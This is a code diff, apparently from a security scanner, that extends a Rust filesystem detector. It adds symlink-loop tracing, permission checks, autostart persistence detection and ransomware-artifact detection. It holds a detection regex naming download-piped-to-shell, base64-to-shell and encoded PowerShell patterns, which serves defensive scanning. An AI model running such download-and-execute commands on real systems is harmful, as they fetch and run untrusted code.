@@ -1,29 +1,260 @@
 //! Filesystem Security Detector
 //!
 //! Detects filesystem-based attack patterns:
-//! - Recursive/circular symlink attacks
+//! - Recursive/circular symlink attacks (chains followed hop by hop)
 //! - Hidden root-level files (dotfiles in /)
 //! - Exposed .git directories
 //! - Screenshot collection (spyware indicator)
 //! - Suspicious hidden directories
 //! - Path traversal attempts
 //! - Sensitive file exposure
+//! - Setuid/setgid and world-writable entries (Unix only)
+//! - Files in autostart locations (cron, systemd, XDG autostart, launch
+//!   agents, Windows Startup, shell rc files)
+//! - Ransomware aftermath: directories where most files share one unusual
+//!   extension, and ransom notes such as `HOW_TO_DECRYPT.txt`
 
 use crate::skills::{
-    schema, Finding, ScanParams, Severity, Skill, SkillError, SkillOutput, SkillResult,
+    explained_types, find_explanation, offset_to_line_col, read_text_lossy, schema,
+    tag_attack_techniques, AttackMapping, Explanation, Explanations, Finding, PathFilter,
+    ScanParams, Severity, Skill, SkillError, SkillOutput, SkillResult,
 };
 use regex::Regex;
 use serde_json::{json, Value};
-use std::collections::HashSet;
+use std::collections::{BTreeMap, HashMap, HashSet};
 use std::fs;
-use std::os::unix::fs::MetadataExt;
-use std::path::{Path, PathBuf};
+use std::path::{Component, Path, PathBuf};
 use walkdir::WalkDir;
 
+/// ATT&CK techniques per finding type
+const ATTACK_TECHNIQUES: AttackMapping = &[
+    ("screenshot_collection", &["T1113"]),
+    ("hidden_sensitive_file", &["T1564.001", "T1552.001"]),
+    ("sensitive_file_exposed", &["T1552.001"]),
+    ("git_directory_exposed", &["T1213"]),
+    ("insecure_permissions", &["T1548.001", "T1222.002"]),
+    (
+        "persistence_mechanism",
+        &["T1053.003", "T1543.002", "T1547.013", "T1543.001", "T1547.001", "T1546.004"],
+    ),
+    ("ransomware_artifacts", &["T1486"]),
+];
+
+/// Autostart locations, matched against the tail of each path so any scan
+/// root works: (mechanism, ATT&CK technique, path regex). Shell rc files
+/// are only reported when they run a payload; dotfile repos are common.
+const PERSISTENCE_LOCATIONS: &[(&str, &str, &str)] = &[
+    ("cron", "T1053.003", r"(?:^|/)(?:cron\.(?:d|hourly|daily|weekly|monthly)/[^/]+|crontab|var/spool/cron/(?:crontabs/)?[^/]+)$"),
+    ("systemd_unit", "T1543.002", r"(?:^|/)systemd/(?:system|user)/[^/]+\.(?:service|timer)$"),
+    ("xdg_autostart", "T1547.013", r"(?:^|/)(?:\.config|xdg)/autostart/[^/]+\.desktop$"),
+    ("launch_agent", "T1543.001", r"(?:^|/)Launch(?:Agents|Daemons)/[^/]+\.plist$"),
+    ("windows_startup", "T1547.001", r"(?i)(?:^|/)Programs/Startup/[^/]+$"),
+    ("shell_rc", "T1546.004", r"(?:^|/)(?:\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile)|profile\.d/[^/]+\.sh)$"),
+];
+
+/// Files of these types are peeked into wherever they are; one that runs a
+/// payload is reported even outside an autostart directory
+const PERSISTENCE_EXTENSIONS: &[(&str, &str, &str)] = &[
+    ("service", "systemd_unit", "T1543.002"),
+    ("desktop", "xdg_autostart", "T1547.013"),
+    ("plist", "launch_agent", "T1543.001"),
+];
+
+/// Bytes of an autostart file searched for a payload
+const PERSISTENCE_SCAN_MAX_BYTES: u64 = 64 * 1024;
+
+/// Directories where setuid/setgid binaries are normal
+#[cfg(unix)]
+const SETUID_DIRS: &[&str] = &[
+    "/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/libexec", "/usr/lib", "/usr/local/bin",
+    "/usr/local/sbin",
+];
+
+/// Extensions ransomware families are known to append
+const RANSOM_EXTENSIONS: &[&str] = &[
+    "locked", "encrypted", "crypt", "crypted", "crypto", "cry", "locky", "cerber", "wncry",
+    "wnry", "ryk", "ryuk", "conti", "lockbit", "djvu", "pay", "paym", "kraken", "ransom",
+];
+
+/// Extensions a directory is normally full of. Anything else needs to
+/// look appended (`report.docx.xyz`) or random to count as ransomware.
+const COMMON_EXTENSIONS: &[&str] = &[
+    "txt", "md", "rst", "log", "csv", "tsv", "json", "yaml", "yml", "toml", "xml", "html", "htm",
+    "css", "js", "mjs", "cjs", "ts", "tsx", "jsx", "map", "rs", "py", "rb", "go", "java", "kt",
+    "c", "h", "cc", "cpp", "hpp", "cs", "php", "sh", "lua", "sql", "png", "jpg", "jpeg", "gif",
+    "webp", "svg", "bmp", "ico", "mp3", "wav", "ogg", "flac", "mp4", "mov", "webm", "pdf", "doc",
+    "docx", "xls", "xlsx", "ppt", "pptx", "odt", "zip", "gz", "tgz", "bz2", "xz", "zst", "tar",
+    "7z", "rar", "jar", "whl", "so", "dll", "dylib", "exe", "o", "a", "rlib", "rmeta", "d",
+    "class", "pyc", "wasm", "bin", "dat", "db", "sqlite", "lock", "bak", "old", "orig", "tmp",
+    "part", "pem", "crt", "key", "pub", "asc", "sig", "ttf", "otf", "woff", "woff2", "eot",
+    // Suffixes appended to a real extension on purpose: templates, samples, test snapshots
+    "data", "in", "tt", "tpl", "tmpl", "template", "j2", "erb", "hbs", "example", "sample",
+    "dist", "snap", "stderr", "stdout", "expected", "golden", "out",
+];
+
+/// Ransom note file names: HOW_TO_DECRYPT.txt, !!!READ_ME!!!.html,
+/// RESTORE_MY_FILES.txt. `README.txt` needs the separator to match.
+const RANSOM_NOTE_PATTERN: &str = r"(?i)^[!_#\-\s]*(?:read[_\-\s]+me|how[_\-\s]*to[_\-\s]*(?:decrypt|restore|recover|back[_\-\s]*up)|decrypt[_\-\s]*(?:instructions?|files?|info)|restore[_\-\s]*(?:my[_\-\s]*|your[_\-\s]*)?files|recover[_\-\s]*(?:my[_\-\s]*|your[_\-\s]*)?files|your[_\-\s]*files[_\-\s]*are[_\-\s]*encrypted)[\w\-\s!.()]*\.(?:txt|html?|hta|rtf|url)$";
+
+/// Files a directory needs before its extensions are judged
+const MIN_RANSOM_DIR_FILES: usize = 5;
+
+/// Share of a directory's files that must carry the dominant extension
+const RANSOM_EXTENSION_SHARE: f64 = 0.7;
+
+/// Hops followed along a symlink chain before giving up (Linux's MAXSYMLINKS)
+const MAX_SYMLINK_HOPS: usize = 40;
+
+/// Outcome of following a symlink chain hop by hop
+enum SymlinkChain {
+    /// Ends at a non-link path (or one that can't be read)
+    Resolved,
+    /// Revisits a path; the last element repeats an earlier one
+    Cycle(Vec<PathBuf>),
+    /// Still a link after `MAX_SYMLINK_HOPS`
+    TooLong(Vec<PathBuf>),
+}
+
+/// Operator guidance per finding type, for [`Skill::explain`]
+const EXPLANATIONS: Explanations = &[
+    Explanation::new(
+        "persistence_mechanism",
+        "A file in a location the system runs automatically: a cron fragment, systemd unit, XDG \
+         autostart entry, launch agent, Windows Startup item, or shell rc file.",
+        "Malware survives reboots and logouts by dropping a file where the OS starts it. Entries \
+         that run something from a temp directory or pipe a download into a shell are the usual \
+         shape.",
+        "Dotfile and configuration-management repositories, and packages that ship their own \
+         service units or autostart entries.",
+        "Check what the entry runs and who installed it. Remove entries that start binaries from \
+         temp directories or fetch code at login, then look for the payload they launch.",
+    ),
+    Explanation::new(
+        "ransomware_artifacts",
+        "A directory where most files share one unusual extension (.locked, .encrypted, a \
+         random string appended to the real name), a ransom note such as HOW_TO_DECRYPT.txt, \
+         or both.",
+        "This is what ransomware leaves behind: it encrypts each file, renames it with its own \
+         extension and drops a note with payment instructions. Together they mean the files are \
+         no longer readable.",
+        "Directories of encrypted backups or exported data in an uncommon format, and malware \
+         research samples.",
+        "Isolate the machine and do not pay or run any decryptor from the note. Restore from \
+         offline backups and find how the attacker got in before reconnecting.",
+    ),
+    Explanation::new(
+        "git_directory_exposed",
+        "A .git directory inside a tree that looks deployable, such as a web root or upload \
+         directory.",
+        "Anyone who can fetch files from the server can rebuild the repository from an exposed \
+         .git, including its history, credentials committed in the past, and internal URLs.",
+        "Development checkouts that are never served, and repositories scanned straight from a \
+         clone.",
+        "Remove .git from deployed artifacts and block dot-directories in the web server \
+         configuration. Rotate any secret that was ever committed.",
+    ),
+    Explanation::new(
+        "hidden_sensitive_file",
+        "A dotfile or hidden file whose name suggests credentials or history, such as .env, \
+         .netrc, or shell history.",
+        "Hidden files get left out of reviews and uploads, so secrets in them leak quietly and \
+         malware drops its staging files there.",
+        "Local development configs that are never deployed, and templates like .env.example.",
+        "Check the file's contents. Keep secrets out of the tree, add the file to .gitignore, and \
+         rotate anything that was exposed.",
+    ),
+    Explanation::new(
+        "insecure_permissions",
+        "A file that is world-writable or has the setuid or setgid bit set.",
+        "World-writable files can be modified by any local user, and setuid binaries run with the \
+         owner's privileges. Both are standard privilege escalation paths.",
+        "Scratch directories with the sticky bit, archives extracted by tools that keep odd \
+         modes, and system binaries that need setuid.",
+        "Reset the mode with chmod, usually to 644 for files and 755 for executables. Remove \
+         setuid unless the binary is designed and reviewed for it.",
+    ),
+    Explanation::new(
+        "path_traversal_filename",
+        "A file whose name contains ../ segments or other characters that escape the directory it \
+         is extracted into.",
+        "Archive entries and uploads with these names overwrite files outside the target \
+         directory when unpacked (Zip Slip).",
+        "Rare. Test fixtures for path traversal handling are the usual case.",
+        "Delete the file and check that whatever extracts archives or saves uploads normalizes \
+         paths and rejects entries outside the destination.",
+    ),
+    Explanation::new(
+        "screenshot_collection",
+        "A directory holding many screenshots or screen captures.",
+        "Spyware collects screenshots before exfiltrating them, usually into temp or hidden \
+         directories.",
+        "Documentation assets, QA evidence, and design exports.",
+        "Check which process writes the images and whether the directory is expected. Remove \
+         unexplained collections and look for the capture code.",
+    ),
+    Explanation::new(
+        "sensitive_file_exposed",
+        "A file whose name suggests it holds credentials or system secrets, such as id_rsa, a \
+         keystore, or a copy of /etc/shadow.",
+        "These files give direct access to systems or accounts if they leave the machine they \
+         belong on.",
+        "Public keys, empty placeholders, and test keys generated for a fixture.",
+        "Check the file's contents. Move real secrets out of the tree, rotate them, and ignore \
+         the path in version control.",
+    ),
+    Explanation::new(
+        "symlink_broken",
+        "A symbolic link whose target does not exist.",
+        "Dangling links can be claimed later: whoever creates the missing target controls what \
+         the link points to.",
+        "Links into build output that has not been generated yet, and links to optional system \
+         files.",
+        "Remove the link or create its target. Be wary of links pointing into world-writable \
+         directories.",
+    ),
+    Explanation::new(
+        "symlink_chain_too_long",
+        "A symbolic link that takes more hops to resolve than the scanner's limit.",
+        "Long chains are used to confuse path checks and to exhaust resolvers, and they make it \
+         hard to see where a path really ends up.",
+        "Layered package manager stores and versioned install directories that stack several \
+         links.",
+        "Point the link straight at its final target.",
+    ),
+    Explanation::new(
+        "symlink_circular",
+        "A symbolic link that resolves back to itself through other links.",
+        "Link loops hang or crash tools that follow them, which can be used to stop scanners and \
+         backup jobs.",
+        "Mistakes when relocating directories.",
+        "Remove one link in the cycle.",
+    ),
+    Explanation::new(
+        "symlink_escape",
+        "A symbolic link inside the scanned tree that points outside it.",
+        "Links that escape a directory let archive extraction, uploads, or web servers read or \
+         write files elsewhere on the system, such as /etc/passwd.",
+        "Links to shared system libraries or to a sibling checkout in a monorepo.",
+        "Replace the link with a copy or a path inside the tree. Check that anything serving or \
+         extracting this tree refuses to follow links outside it.",
+    ),
+    Explanation::new(
+        "symlink_self_reference",
+        "A symbolic link that points directly at itself.",
+        "It never resolves and makes tools that follow it fail. It usually marks a broken install \
+         or a deliberate trap.",
+        "Leftovers from a failed move or rename.",
+        "Delete the link.",
+    ),
+];
+
 pub struct FilesystemDetector {
     screenshot_regex: Regex,
     sensitive_files: Vec<&'static str>,
     git_sensitive: Vec<&'static str>,
+    persistence_locations: Vec<(&'static str, &'static str, Regex)>,
+    persistence_payload_regex: Regex,
+    ransom_note_regex: Regex,
 }
 
 impl FilesystemDetector {
@@ -63,19 +294,103 @@ impl FilesystemDetector {
                 "objects",
                 "refs",
             ],
+
+            persistence_locations: PERSISTENCE_LOCATIONS
+                .iter()
+                .map(|(kind, technique, pattern)| (*kind, *technique, Regex::new(pattern).unwrap()))
+                .collect(),
+
+            // Exec from a temp dir, download piped to a shell, encoded PowerShell
+            persistence_payload_regex: Regex::new(
+                r"(?im)^\s*(?:ExecStart(?:Pre|Post)?|Exec)\s*=\s*-?\S*(?:/tmp/|/var/tmp/|/dev/shm/)|<string>\s*(?:/tmp/|/var/tmp/|/dev/shm/)|(?:^|[;&|]\s*|nohup\s+|\s)(?:/tmp|/var/tmp|/dev/shm)/\S+|\b(?:curl|wget)\b[^\n|]*\|\s*(?:ba|z|da)?sh\b|\bbase64\s+(?:-d|--decode)\b[^\n]*\|\s*(?:ba)?sh\b|\bpowershell(?:\.exe)?\b[^\n]*\s-(?:e|enc|encodedcommand)\s|%(?:temp|tmp)%\\"
+            ).unwrap(),
+
+            ransom_note_regex: Regex::new(RANSOM_NOTE_PATTERN).unwrap(),
         }
     }
 
+    /// Whether files carrying `extension` look renamed by ransomware: a
+    /// known ransomware extension, a random-looking one, or an uncommon
+    /// one appended after a common extension on most of the files
+    fn is_ransom_extension(extension: &str, appended: usize, count: usize) -> bool {
+        if RANSOM_EXTENSIONS.contains(&extension) {
+            return true;
+        }
+        if COMMON_EXTENSIONS.contains(&extension) {
+            return false;
+        }
+        let random = extension.len() >= 5
+            && extension.chars().any(|c| c.is_ascii_digit())
+            && extension.chars().any(|c| c.is_ascii_alphabetic());
+        random || appended * 2 > count
+    }
+
+    /// Absolute form of a link path with `.`/`..` removed, resolving the
+    /// parent directory but not the final component (which may be a link)
+    fn normalize_link_path(path: &Path) -> PathBuf {
+        let lexical = path.components().fold(PathBuf::new(), |mut acc, c| {
+            match c {
+                Component::CurDir => {}
+                Component::ParentDir => {
+                    acc.pop();
+                }
+                other => acc.push(other),
+            }
+            acc
+        });
+
+        match (lexical.parent(), lexical.file_name()) {
+            (Some(parent), Some(name)) => fs::canonicalize(parent)
+                .map(|p| p.join(name))
+                .unwrap_or(lexical),
+            _ => lexical,
+        }
+    }
+
+    /// Follow a symlink one `read_link` at a time, up to `MAX_SYMLINK_HOPS`
+    fn walk_symlink_chain(start: &Path) -> SymlinkChain {
+        let start = Self::normalize_link_path(start);
+        let mut chain = vec![start.clone()];
+        let mut seen: HashSet<PathBuf> = HashSet::from([start.clone()]);
+        let mut current = start;
+
+        for _ in 0..MAX_SYMLINK_HOPS {
+            let Ok(target) = fs::read_link(&current) else {
+                return SymlinkChain::Resolved;
+            };
+            let next = Self::normalize_link_path(
+                &current.parent().unwrap_or(Path::new("/")).join(target),
+            );
+
+            chain.push(next.clone());
+            if !seen.insert(next.clone()) {
+                return SymlinkChain::Cycle(chain);
+            }
+            if !next.is_symlink() {
+                return SymlinkChain::Resolved;
+            }
+            current = next;
+        }
+
+        SymlinkChain::TooLong(chain)
+    }
+
+    fn display_chain(chain: &[PathBuf]) -> Vec<String> {
+        chain.iter().map(|p| p.display().to_string()).collect()
+    }
+
     /// Detect recursive/circular symlinks
-    fn detect_symlink_attacks(&self, path: &Path) -> Vec<Finding> {
+    fn detect_symlink_attacks(&self, path: &Path, filter: &PathFilter) -> Vec<Finding> {
         let mut findings = Vec::new();
-        let mut visited: HashSet<PathBuf> = HashSet::new();
+        let mut reported_cycles: HashSet<PathBuf> = HashSet::new();
 
         for entry in WalkDir::new(path)
             .follow_links(false)
             .max_depth(10)
             .into_iter()
+            .filter_entry(|e| !filter.prunes(path, e))
             .filter_map(|e| e.ok())
+            .filter(|e| filter.allows(path, e.path()))
         {
             let entry_path = entry.path();
 
@@ -92,43 +407,78 @@ impl FilesystemDetector {
                                 .join(&target)
                         };
 
-                        // Check for self-reference
-                        if absolute_target == entry_path {
-                            findings.push(Finding {
-                                finding_type: "symlink_self_reference".to_string(),
-                                value: json!({
-                                    "path": entry_path.display().to_string(),
-                                    "target": target.display().to_string()
-                                }),
-                                confidence: 0.99,
-                                location: entry_path.display().to_string(),
-                                severity: Severity::High,
-                                metadata: json!({
-                                    "pattern": "Self-referencing symlink",
-                                    "description": "Symlink points to itself - causes infinite loops"
-                                }),
-                            });
-                        }
-
-                        // Check for circular references
-                        if let Ok(canonical) = fs::canonicalize(&absolute_target) {
-                            if visited.contains(&canonical) {
+                        match Self::walk_symlink_chain(entry_path) {
+                            // Check for self-reference
+                            SymlinkChain::Cycle(chain) if chain.len() == 2 => {
                                 findings.push(Finding {
-                                    finding_type: "symlink_circular".to_string(),
+                                    finding_type: "symlink_self_reference".to_string(),
                                     value: json!({
                                         "path": entry_path.display().to_string(),
-                                        "target": target.display().to_string(),
-                                        "resolves_to": canonical.display().to_string()
+                                        "target": target.display().to_string()
                                     }),
-                                    confidence: 0.95,
+                                    confidence: 0.99,
                                     location: entry_path.display().to_string(),
                                     severity: Severity::High,
                                     metadata: json!({
-                                        "pattern": "Circular symlink chain",
-                                        "description": "Symlink creates a loop in directory traversal"
+                                        "pattern": "Self-referencing symlink",
+                                        "description": "Symlink points to itself - causes infinite loops"
+                                    }),
+                                });
+                            }
+                            // Report each loop once, from the first member reached
+                            SymlinkChain::Cycle(chain) => {
+                                let loop_start = chain
+                                    .iter()
+                                    .position(|p| Some(p) == chain.last())
+                                    .unwrap_or(0);
+                                let cycle = &chain[loop_start..chain.len() - 1];
+                                let in_reported_cycle = reported_cycles.contains(&chain[0]);
+                                reported_cycles.extend(cycle.iter().cloned());
+
+                                if !in_reported_cycle {
+                                    findings.push(Finding {
+                                        finding_type: "symlink_circular".to_string(),
+                                        value: json!({
+                                            "path": entry_path.display().to_string(),
+                                            "target": target.display().to_string(),
+                                            "chain": Self::display_chain(&chain),
+                                            "cycle_length": cycle.len()
+                                        }),
+                                        confidence: 0.95,
+                                        location: entry_path.display().to_string(),
+                                        severity: Severity::High,
+                                        metadata: json!({
+                                            "pattern": "Circular symlink chain",
+                                            "description": format!(
+                                                "Symlink chain loops after {} hop(s): {}",
+                                                chain.len() - 1,
+                                                Self::display_chain(&chain).join(" -> ")
+                                            )
+                                        }),
+                                    });
+                                }
+                            }
+                            SymlinkChain::TooLong(chain) => {
+                                findings.push(Finding {
+                                    finding_type: "symlink_chain_too_long".to_string(),
+                                    value: json!({
+                                        "path": entry_path.display().to_string(),
+                                        "chain": Self::display_chain(&chain),
+                                        "max_hops": MAX_SYMLINK_HOPS
+                                    }),
+                                    confidence: 0.85,
+                                    location: entry_path.display().to_string(),
+                                    severity: Severity::Medium,
+                                    metadata: json!({
+                                        "pattern": "Over-long symlink chain",
+                                        "description": format!(
+                                            "Symlink chain still unresolved after {} hops",
+                                            MAX_SYMLINK_HOPS
+                                        )
                                     }),
                                 });
                             }
+                            SymlinkChain::Resolved => {}
                         }
 
                         // Check for symlinks pointing outside the scanned directory
@@ -180,10 +530,6 @@ impl FilesystemDetector {
                         });
                     }
                 }
-
-                if let Ok(canonical) = fs::canonicalize(entry_path) {
-                    visited.insert(canonical);
-                }
             }
         }
 
@@ -191,12 +537,15 @@ impl FilesystemDetector {
     }
 
     /// Detect hidden files in root or sensitive locations
-    fn detect_hidden_root(&self, path: &Path) -> Vec<Finding> {
+    fn detect_hidden_root(&self, path: &Path, filter: &PathFilter) -> Vec<Finding> {
         let mut findings = Vec::new();
 
         // Check for dotfiles in the scanned directory root
         if let Ok(entries) = fs::read_dir(path) {
-            for entry in entries.filter_map(|e| e.ok()) {
+            for entry in entries
+                .filter_map(|e| e.ok())
+                .filter(|e| filter.allows(path, &e.path()))
+            {
                 let name = entry.file_name();
                 let name_str = name.to_string_lossy();
 
@@ -238,13 +587,16 @@ impl FilesystemDetector {
     }
 
     /// Detect exposed .git directories
-    fn detect_git_exposure(&self, path: &Path) -> Vec<Finding> {
+    fn detect_git_exposure(&self, path: &Path, filter: &PathFilter) -> Vec<Finding> {
         let mut findings = Vec::new();
 
+        // .git is in the default skip list; this is the one walk that wants it
         for entry in WalkDir::new(path)
             .max_depth(5)
             .into_iter()
+            .filter_entry(|e| e.file_name() == ".git" || !filter.prunes(path, e))
             .filter_map(|e| e.ok())
+            .filter(|e| filter.allows(path, e.path()))
         {
             let entry_path = entry.path();
 
@@ -293,7 +645,7 @@ impl FilesystemDetector {
     }
 
     /// Detect screenshot collection (spyware indicator)
-    fn detect_screenshot_collection(&self, path: &Path) -> Vec<Finding> {
+    fn detect_screenshot_collection(&self, path: &Path, filter: &PathFilter) -> Vec<Finding> {
         let mut findings = Vec::new();
         let mut screenshots: Vec<String> = Vec::new();
         let mut total_size: u64 = 0;
@@ -301,7 +653,9 @@ impl FilesystemDetector {
         for entry in WalkDir::new(path)
             .max_depth(10)
             .into_iter()
+            .filter_entry(|e| !filter.prunes(path, e))
             .filter_map(|e| e.ok())
+            .filter(|e| filter.allows(path, e.path()))
         {
             let entry_path = entry.path();
 
@@ -354,13 +708,15 @@ impl FilesystemDetector {
     }
 
     /// Detect sensitive file exposure
-    fn detect_sensitive_files(&self, path: &Path) -> Vec<Finding> {
+    fn detect_sensitive_files(&self, path: &Path, filter: &PathFilter) -> Vec<Finding> {
         let mut findings = Vec::new();
 
         for entry in WalkDir::new(path)
             .max_depth(10)
             .into_iter()
+            .filter_entry(|e| !filter.prunes(path, e))
             .filter_map(|e| e.ok())
+            .filter(|e| filter.allows(path, e.path()))
         {
             let entry_path = entry.path();
 
@@ -394,13 +750,15 @@ impl FilesystemDetector {
     }
 
     /// Detect path traversal patterns in filenames
-    fn detect_path_traversal(&self, path: &Path) -> Vec<Finding> {
+    fn detect_path_traversal(&self, path: &Path, filter: &PathFilter) -> Vec<Finding> {
         let mut findings = Vec::new();
 
         for entry in WalkDir::new(path)
             .max_depth(10)
             .into_iter()
+            .filter_entry(|e| !filter.prunes(path, e))
             .filter_map(|e| e.ok())
+            .filter(|e| filter.allows(path, e.path()))
         {
             let entry_path = entry.path();
 
@@ -430,16 +788,280 @@ impl FilesystemDetector {
         findings
     }
 
-    /// Analyze a path
-    fn analyze(&self, path: &Path) -> Vec<Finding> {
+    /// Detect setuid/setgid files outside system binary directories and
+    /// world-writable files or directories (sticky directories like /tmp
+    /// excepted). Symlinks are skipped; their mode bits mean nothing.
+    #[cfg(unix)]
+    fn detect_insecure_permissions(&self, path: &Path, filter: &PathFilter) -> Vec<Finding> {
+        use std::os::unix::fs::MetadataExt;
+
         let mut findings = Vec::new();
 
-        findings.extend(self.detect_symlink_attacks(path));
-        findings.extend(self.detect_hidden_root(path));
-        findings.extend(self.detect_git_exposure(path));
-        findings.extend(self.detect_screenshot_collection(path));
-        findings.extend(self.detect_sensitive_files(path));
-        findings.extend(self.detect_path_traversal(path));
+        for entry in WalkDir::new(path)
+            .max_depth(10)
+            .into_iter()
+            .filter_entry(|e| !filter.prunes(path, e))
+            .filter_map(|e| e.ok())
+            .filter(|e| filter.allows(path, e.path()))
+        {
+            let Ok(meta) = entry.metadata() else {
+                continue;
+            };
+            let file_type = meta.file_type();
+            if file_type.is_symlink() {
+                continue;
+            }
+
+            let mode = meta.mode() & 0o7777;
+            let entry_path = entry.path();
+            let expected_setuid = SETUID_DIRS
+                .iter()
+                .any(|dir| entry_path.parent() == Some(Path::new(dir)));
+
+            let setuid = file_type.is_file() && mode & 0o4000 != 0 && !expected_setuid;
+            let setgid = file_type.is_file() && mode & 0o2000 != 0 && !expected_setuid;
+            let world_writable = mode & 0o002 != 0 && !(file_type.is_dir() && mode & 0o1000 != 0);
+
+            if !(setuid || setgid || world_writable) {
+                continue;
+            }
+
+            let (severity, confidence) = match (setuid || setgid, world_writable) {
+                (true, true) => (Severity::Critical, 0.95),
+                (true, false) if setuid => (Severity::High, 0.9),
+                (true, false) => (Severity::Medium, 0.8),
+                (false, _) => (Severity::High, 0.85),
+            };
+
+            let mut problems = Vec::new();
+            if setuid {
+                problems.push("setuid");
+            }
+            if setgid {
+                problems.push("setgid");
+            }
+            if world_writable {
+                problems.push("world-writable");
+            }
+
+            findings.push(Finding {
+                finding_type: "insecure_permissions".to_string(),
+                value: json!({
+                    "path": entry_path.display().to_string(),
+                    "mode": format!("{:04o}", mode),
+                    "kind": if file_type.is_dir() { "directory" } else { "file" },
+                    "setuid": setuid,
+                    "setgid": setgid,
+                    "world_writable": world_writable
+                }),
+                confidence,
+                location: entry_path.display().to_string(),
+                severity,
+                metadata: json!({
+                    "pattern": "Insecure permissions",
+                    "description": format!(
+                        "Mode {:04o} is {}",
+                        mode,
+                        problems.join(" and ")
+                    )
+                }),
+            });
+        }
+
+        findings
+    }
+
+    /// Detect files in autostart locations. An entry that runs a payload
+    /// (something in a temp directory, a download piped to a shell) is
+    /// reported with higher confidence; shell rc files only with one.
+    fn detect_persistence_files(&self, path: &Path, filter: &PathFilter) -> Vec<Finding> {
+        let mut findings = Vec::new();
+
+        for entry in WalkDir::new(path)
+            .max_depth(10)
+            .into_iter()
+            .filter_entry(|e| !filter.prunes(path, e))
+            .filter_map(|e| e.ok())
+            .filter(|e| e.file_type().is_file() && filter.allows(path, e.path()))
+        {
+            let entry_path = entry.path();
+            let path_str = entry_path.display().to_string();
+            let tail = path_str.replace('\\', "/");
+
+            let located = self
+                .persistence_locations
+                .iter()
+                .find(|(_, _, regex)| regex.is_match(&tail))
+                .map(|(kind, technique, _)| (*kind, *technique));
+            let by_extension = entry_path
+                .extension()
+                .and_then(|ext| ext.to_str())
+                .and_then(|ext| PERSISTENCE_EXTENSIONS.iter().find(|(e, _, _)| *e == ext))
+                .map(|(_, kind, technique)| (*kind, *technique));
+            let Some((kind, technique)) = located.or(by_extension) else {
+                continue;
+            };
+
+            let payload = read_text_lossy(entry_path, PERSISTENCE_SCAN_MAX_BYTES)
+                .ok()
+                .and_then(|content| {
+                    let mat = self.persistence_payload_regex.find(&content)?;
+                    let (line, _) = offset_to_line_col(&content, mat.start());
+                    let text = content.lines().nth(line - 1).unwrap_or_default().trim();
+                    Some((line, text.chars().take(200).collect::<String>()))
+                });
+            // Outside an autostart location, and for rc files, only a payload counts
+            if payload.is_none() && (located.is_none() || kind == "shell_rc") {
+                continue;
+            }
+
+            findings.push(Finding {
+                finding_type: "persistence_mechanism".to_string(),
+                value: json!({
+                    "mechanism": kind,
+                    "technique": technique,
+                    "path": path_str,
+                    "payload": payload.as_ref().map(|(_, text)| text),
+                    "line": payload.as_ref().map(|(line, _)| line)
+                }),
+                confidence: if payload.is_some() { 0.9 } else { 0.7 },
+                location: path_str.clone(),
+                severity: if payload.is_some() { Severity::High } else { Severity::Medium },
+                metadata: json!({
+                    "pattern": "Persistence mechanism",
+                    "description": match &payload {
+                        Some(_) => format!("{} entry runs a suspicious payload", kind),
+                        None => format!("File in a {} autostart location", kind),
+                    }
+                }),
+            });
+        }
+
+        findings
+    }
+
+    /// Detect directories that look hit by ransomware: most files renamed to
+    /// one unusual extension, a ransom note, or both. Files are grouped by
+    /// parent directory over the whole walk; each directory is one finding.
+    fn detect_ransomware_artifacts(&self, path: &Path, filter: &PathFilter) -> Vec<Finding> {
+        #[derive(Default)]
+        struct Directory {
+            files: usize,
+            /// Extension -> (files, files whose stem ends in a common extension)
+            extensions: HashMap<String, (usize, usize)>,
+            notes: Vec<String>,
+        }
+
+        let mut directories: BTreeMap<PathBuf, Directory> = BTreeMap::new();
+        for entry in WalkDir::new(path)
+            .max_depth(10)
+            .into_iter()
+            .filter_entry(|e| !filter.prunes(path, e))
+            .filter_map(|e| e.ok())
+            .filter(|e| e.file_type().is_file() && filter.allows(path, e.path()))
+        {
+            let entry_path = entry.path();
+            let Some(parent) = entry_path.parent() else {
+                continue;
+            };
+            let directory = directories.entry(parent.to_path_buf()).or_default();
+            let name = entry.file_name().to_string_lossy();
+            if self.ransom_note_regex.is_match(&name) {
+                directory.notes.push(entry_path.display().to_string());
+                continue;
+            }
+
+            directory.files += 1;
+            if let Some(extension) = entry_path.extension() {
+                let stem = Path::new(entry_path.file_stem().unwrap_or_default());
+                let counts = directory
+                    .extensions
+                    .entry(extension.to_string_lossy().to_lowercase())
+                    .or_default();
+                counts.0 += 1;
+                let inner = stem.extension().map(|e| e.to_string_lossy().to_lowercase());
+                counts.1 += usize::from(
+                    inner.is_some_and(|inner| COMMON_EXTENSIONS.contains(&inner.as_str())),
+                );
+            }
+        }
+
+        let mut findings = Vec::new();
+        for (dir, directory) in directories {
+            let dominant = directory
+                .extensions
+                .iter()
+                .max_by(|a, b| a.1 .0.cmp(&b.1 .0).then_with(|| b.0.cmp(a.0)))
+                .filter(|(extension, (count, appended))| {
+                    directory.files >= MIN_RANSOM_DIR_FILES
+                        && *count as f64 / directory.files as f64 >= RANSOM_EXTENSION_SHARE
+                        && Self::is_ransom_extension(extension, *appended, *count)
+                })
+                .map(|(extension, (count, _))| (extension.as_str(), *count));
+            let note = directory.notes.first();
+            if dominant.is_none() && note.is_none() {
+                continue;
+            }
+
+            let (severity, confidence, description) = match (dominant, note) {
+                (Some((extension, count)), Some(_)) => (
+                    Severity::Critical,
+                    0.95,
+                    format!("{} files renamed to .{} next to a ransom note", count, extension),
+                ),
+                (Some((extension, count)), None) => (
+                    Severity::High,
+                    if RANSOM_EXTENSIONS.contains(&extension) { 0.85 } else { 0.75 },
+                    format!(
+                        "{} of {} files share the unusual extension .{}",
+                        count, directory.files, extension
+                    ),
+                ),
+                (None, _) => (
+                    Severity::Medium,
+                    0.7,
+                    "Ransom note file name with no renamed files beside it".to_string(),
+                ),
+            };
+
+            let dir = dir.display().to_string();
+            findings.push(Finding {
+                finding_type: "ransomware_artifacts".to_string(),
+                value: json!({
+                    "directory": dir,
+                    "extension": dominant.map(|(extension, _)| extension),
+                    "affected_files": dominant.map_or(0, |(_, count)| count),
+                    "total_files": directory.files,
+                    "note": note
+                }),
+                confidence,
+                location: dir,
+                severity,
+                metadata: json!({
+                    "pattern": "Ransomware artifacts",
+                    "description": description
+                }),
+            });
+        }
+
+        findings
+    }
+
+    /// Analyze a path, skipping entries rejected by the include/exclude globs
+    /// and not descending into skipped directories
+    fn analyze(&self, path: &Path, filter: &PathFilter) -> Vec<Finding> {
+        let mut findings = Vec::new();
+
